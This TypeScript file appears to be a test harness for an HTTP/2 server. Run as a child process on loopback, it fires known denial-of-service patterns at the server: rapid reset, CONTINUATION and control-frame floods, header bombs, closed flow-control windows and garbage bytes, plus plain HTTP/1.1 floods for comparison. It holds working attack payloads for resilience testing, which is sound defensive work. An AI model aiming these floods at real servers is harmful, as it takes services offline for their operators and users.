// Attacks over HTTP/2 as fast as it can, by one connection, one after the other, or a hundred at a time; or, to compare with, floods with
// ordinary requests. A process that is told by a message what to do, says that it has begun, and is told by the next one to stop.
import { connect, type Socket } from 'node:net'
import { flag, frameType, setting } from '../../../src/http2/frames/frames.ts'
import {
  block,
  data,
  frame,
  get,
  headers,
  ping,
  post,
  preface,
  rstStream,
  settings,
  windowUpdate,
} from '../../../test/help/http2.ts'

export type AttackName = keyof typeof attacks

const { endHeaders, endStream } = flag
const streams = Array.from({ length: 2_000 }, (_, i) => 2 * i + 1)
const many = (bytes: Buffer) => Buffer.concat(Array<Buffer>(4_000).fill(bytes))

/** What is sent on a new connection, and then again and again; or how the connection goes on. */
type Attack = readonly [first: Buffer, again: Buffer | 'wait' | 'leave']

export const attacks = {
  'rapid reset': [Buffer.concat(streams.flatMap(id => [headers(id), rstStream(id)])), 'wait'],
  'resets that we are made to send': [
    Buffer.concat(streams.flatMap(id => [headers(id), windowUpdate(id, 0)])),
    'wait',
  ],
  'malformed heads': [
    Buffer.concat(streams.map(id => headers(id, [...get, ['connection', 'close']]))),
    'wait',
  ],
  'CONTINUATION without end': [headers(1, get, endStream), many(frame(frameType.continuation, 0, 1))],
  SETTINGS: [settings(), many(settings([setting.initialWindowSize, 1], [setting.initialWindowSize, 65_535]))],
  PING: [ping, many(ping)],
  WINDOW_UPDATE: [headers(1), many(windowUpdate(0, 1))],
  PRIORITY: [headers(1), many(frame(frameType.priority, 0, 77, Buffer.alloc(5)))],
  'empty DATA': [headers(1, post, endHeaders), many(data(1, ''))],
  'header bombs': [
    Buffer.concat([
      frame(
        frameType.headers,
        endHeaders | endStream,
        1,
        Buffer.concat([
          block(...get),
          Buffer.from([0x40, 1, 0x62, 0x7f, 0xa1, 0x1e]),
          Buffer.alloc(4_000, 'a'),
        ]),
      ),
      ...streams
        .slice(1, 200)
        .map(id =>
          frame(
            frameType.headers,
            endHeaders | endStream,
            id,
            Buffer.concat([block(...get), Buffer.alloc(12_000, 0xbe)]),
          ),
        ),
    ]),
    'wait',
  ],
  'requests that are left behind': [Buffer.concat(streams.slice(0, 128).map(id => headers(id))), 'leave'],
  'windows that stay closed': [
    Buffer.concat([
      settings([setting.initialWindowSize, 0]),
      ...streams.slice(0, 128).map(id => headers(id)),
    ]),
    windowUpdate(1, 1),
  ],
  garbage: [Buffer.alloc(65_536, 'x'), 'wait'],
} as const satisfies Record<string, Attack>

/** How many connections there are at a time, each of which is followed by another one unless it is said to be the only one. */
export const shapes = { once: 1, again: 1, sixty: 60, hundred: 100 } as const
export type Shape = keyof typeof shapes

/** How an attacker goes about it; clients attack from an address of loopback. */
export type Orders =
  | {
      readonly kind: 'client'
      readonly port: number
      readonly name: AttackName
      readonly shape: Shape
      readonly from: string
    }
  | { readonly kind: 'origin'; readonly port: number; readonly host: string }
  /** So many connections a second with so many bytes of ordinary requests each. */
  | { readonly kind: 'plain'; readonly port: number; readonly rate: number; readonly bytes: number }

export interface Counts {
  connections: number
  /** Bytes that the system has taken. */
  bytes: number
}

const counts: Counts = { connections: 0, bytes: 0 }
let isOver = false
const open = new Set<Socket>()

process.once('message', (orders: Orders) => {
  if (orders.kind === 'client') attackAsClients(orders)
  else if (orders.kind === 'plain') askPlainly(orders.port, orders.rate, orders.bytes)
  else provoke(orders.port, orders.host)
  process.once('message', () => {
    isOver = true
    for (const socket of open) socket.destroy()
    for (const socket of open) count(socket)
    process.send!(counts)
  })
  process.send!('begun')
})

function attackAsClients({ port, name, shape, from }: Orders & { readonly kind: 'client' }): void {
  const [first, again] = attacks[name]
  const begin = Buffer.concat([preface, settings(), first])
  const attack = () => {
    const socket = connectTo(port, shape === 'once' ? () => {} : attack, from)
    if (again === 'leave') return void socket.end(begin)
    socket.write(begin)
    if (again !== 'wait') repeat(socket, again)
  }
  for (let left: number = shapes[shape]; left > 0; left--) attack()
}

function repeat(socket: Socket, bytes: Buffer): void {
  const send = () => {
    if (!isOver && socket.writable && socket.write(bytes)) setImmediate(send)
  }
  socket.on('drain', send)
  setImmediate(send)
}

function askPlainly(port: number, rate: number, bytes: number): void {
  const request = 'GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n'
  const text = Buffer.from(request.repeat(Math.max(1, Math.round(bytes / request.length))))
  const began = performance.now()
  let due = 0
  const timer = setInterval(() => {
    if (isOver) return clearInterval(timer)
    for (; due < ((performance.now() - began) * rate) / 1000; due++) connectTo(port, () => {}).end(text)
  }, 1)
}

/** Asks for what an origin that attacks has, one request after the other. */
function provoke(port: number, host: string): void {
  const socket = connectTo(port, () => provoke(port, host))
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
}

function connectTo(port: number, closed: () => void, localAddress = '127.0.0.1'): Socket {
  const socket = connect({ port, host: '127.0.0.1', localAddress })
  counts.connections++
  open.add(socket)
  return socket
    .on('error', () => {})
    .on('close', () => {
      count(socket)
      if (!isOver) closed()
    })
    .resume()
}

function count(socket: Socket): void {
  if (open.delete(socket)) counts.bytes += socket.bytesWritten - socket.writableLength
}
